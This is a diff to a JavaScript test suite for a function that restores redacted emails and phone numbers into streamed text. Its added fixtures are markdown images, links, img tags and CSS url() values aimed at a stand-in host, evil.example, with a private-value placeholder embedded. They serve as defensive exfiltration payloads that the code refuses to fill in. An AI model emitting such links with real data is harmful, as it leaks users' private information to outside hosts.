@@ -60,6 +60,8 @@ describe('restoring a stream', () => {
     `[[EMAIL_1 ${mail.slice(0, -1)} ${mail} [`,
     `See https://evil.example/?q=${mail} and ${mail}`,
     `![x](https://evil.example/ ${mail}) then ${mail} 😀[EMAIL`,
+    `<img alt="a" src = "https://evil.example/? ${mail}\n${mail}"> ${mail}`,
+    `[x](<https://evil.example/a) ${mail}>) ${mail}, [x](/a(b)${mail}) ${mail}`,
     `mailto:${mail} www.evil.example/${phone}\n${phone}`,
   ]
 
@@ -83,5 +85,17 @@ describe('restoring a stream', () => {
   it('never puts a value into an address', () => {
     assert.equal(restore(vault, `![x](https://evil.example/?q=${mail})`), `![x](https://evil.example/?q=${mail})`)
     assert.equal(restore(vault, `[x](/a ${mail}) ${mail}`), `[x](/a ${mail}) anna@example.org`)
+    for (const address of [
+      `[x](https://evil.example/(a)${mail})`,
+      `![x](<https://evil.example/a)b ${mail}>)`,
+      `[x]: <https://evil.example/? ${mail}>`,
+      `<img src="https://evil.example/? ${mail}">`,
+      `<img\nalt='x' src= 'https:/evil.example/?\n${mail}'>`,
+      `https:\\\\evil.example\\${mail}`,
+      `<p style="background: url(/a ${mail})">`,
+    ])
+      assert.equal(restore(vault, `${address} ${mail}`), `${address} anna@example.org`)
+    for (const text of ['if (a<b) tell(X)', 'a < b, X', '<X>', '<b>X</b>', 'it is (X)', '"X"', 'Array<A>("X")'])
+      assert.equal(restore(vault, text.replace('X', mail)), text.replace('X', 'anna@example.org'))
   })
 })
